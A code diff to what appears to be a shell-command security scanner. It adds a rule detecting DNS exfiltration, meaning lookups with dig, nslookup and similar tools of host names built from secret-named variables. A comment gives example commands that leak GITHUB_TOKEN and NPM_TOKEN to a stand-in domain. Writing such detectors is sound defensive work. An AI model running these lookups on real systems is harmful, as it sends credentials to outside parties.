@@ -432,6 +432,20 @@ final class Credentials {
         return c.named("ssh autossh scp sftp") && c.argFind("(?i)^['\"]?(-o)?['\"]?sendenv[\\s=]+.*(\\*|" + SECRET_NAME_WORDS + ")");
     }
 
+    /** DNS lookup clients: every label of the name they resolve reaches the name servers on the way. */
+    private static final String DNS_CLIENTS = "dig nslookup host drill kdig resolvectl delv Resolve-DnsName";
+
+    /**
+     * True for a DNS lookup of a name built from a secret-named variable ({@code dig "$GITHUB_TOKEN.x.example"},
+     * {@code Resolve-DnsName "$env:NPM_TOKEN.x.example"}). WHY: the name's labels reach whoever
+     * serves the domain, which is how DNS exfiltration works; unlike a URL query or a body (an API
+     * key sent to the API it belongs to) a host name has no use for a token, so the variable counts
+     * as a secret read (SW4104) sent by the lookup (SW4006).
+     */
+    static boolean isLooksUpSecretVariable(Cmd c) {
+        return c.nameIs(DNS_CLIENTS) && c.argFind("(?i)\\$(\\{|env:)?" + SECRET_VARIABLE);
+    }
+
     /** The words that make a name a credential's by convention (the grammar's table, shared with CI files). */
     private static final String SECRET_NAME_WORDS = dev.shellwarden.grammar.SecretNames.WORDS;
 
